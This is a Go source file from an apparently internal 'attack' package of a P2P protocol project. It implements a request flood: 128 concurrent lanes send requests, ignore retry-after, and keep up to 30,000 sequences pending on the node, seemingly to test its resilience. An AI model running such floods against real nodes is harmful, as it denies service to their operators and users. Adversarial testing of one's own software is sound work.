package attack

import (
	"context"
	"sync"
	"sync/atomic"

	"github.com/parley-p2p/parley/internal/wire"
)

const (
	lanes  = 128    // requests that a flood has on their way at once
	behind = 30_000 // sequences of which a flood keeps the node remembering, at most
)

// RequestFlood makes requests, each in a lane of its own, as fast as the node
// takes or refuses them, and heeds no retry-after. It acknowledges replies and
// waits for none. Nothing in it breaks the protocol.
func RequestFlood(ctx context.Context, a *Attacker) error {
	return a.reconnecting(ctx, func(ctx context.Context, p *Peer) {
		var seq atomic.Uint64
		epoch := newEpoch()
		if !p.greet(ctx, Hello(epoch, 1)) {
			return
		}
		var running sync.WaitGroup
		for range lanes {
			running.Go(func() {
				for a.next(ctx) {
					request := Request(epoch, seq.Add(1), []byte("flood"))
					if request.Seq > behind {
						request.Low = request.Seq - behind
					}
					if p.ask(ctx, request) != nil {
						return
					}
				}
			})
		}
		running.Wait()
	})
}

// greet sends a HELLO and reports whether it was answered.
func (p *Peer) greet(ctx context.Context, hello Message) bool {
	s, err := p.Open(ctx)
	if err != nil || s.Send(hello) != nil {
		return false
	}
	defer s.CloseWrite()
	_, err = s.Next()
	return err == nil
}

// ask sends a request on a stream of its own, reads until the node has said
// something final about it, and acknowledges a reply that came with that.
func (p *Peer) ask(ctx context.Context, request Message) error {
	s, err := p.Open(ctx)
	if err != nil {
		return err
	}
	defer s.Reset()
	if err := s.Send(request); err != nil {
		return p.over(err)
	}
	for {
		m, err := s.Next()
		switch {
		case err != nil:
			return p.over(err)
		case m.Kind == wire.Reply:
			return s.Send(Message{Frame: wire.Frame{Kind: wire.Ack, Of: wire.OfReply, Epoch: m.Epoch, Seq: m.Seq, Hash: m.Hash}})
		case m.Kind == wire.Ack && s.in.Buffered() > 0:
		default:
			return nil
		}
	}
}

// over is the error if it ended the connection: one that ended a stream alone is
// part of the game.
func (p *Peer) over(err error) error {
	if p.session.IsClosed() {
		return err
	}
	return nil
}
